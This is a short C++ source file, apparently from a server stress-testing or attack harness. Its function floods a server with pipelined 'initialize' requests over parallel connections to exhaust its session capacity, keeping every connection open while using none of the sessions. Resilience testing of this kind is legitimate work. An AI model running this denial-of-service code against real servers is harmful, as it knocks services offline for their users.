// Opens as many sessions as the server allows, and uses no session.
#include "attack/clients.hpp"

namespace attack {

void initialize_flood(Field& field) {
    std::string bytes;
    for (int i = 0; i < 100; ++i) bytes += post(initialize_message(), field.credentials);
    field.in_parallel([&](int) {
        Wire wire = field.connect();
        for (int round = 0; round < 210 && !field.is_over(); ++round) {
            if (!wire.send(bytes, field.until)) return;
            for (int i = 0; i < 100; ++i)
                if (wire.read(field.until).status == 200) field.count();
        }
        field.keep(std::move(wire));
    });
}

}  // namespace attack
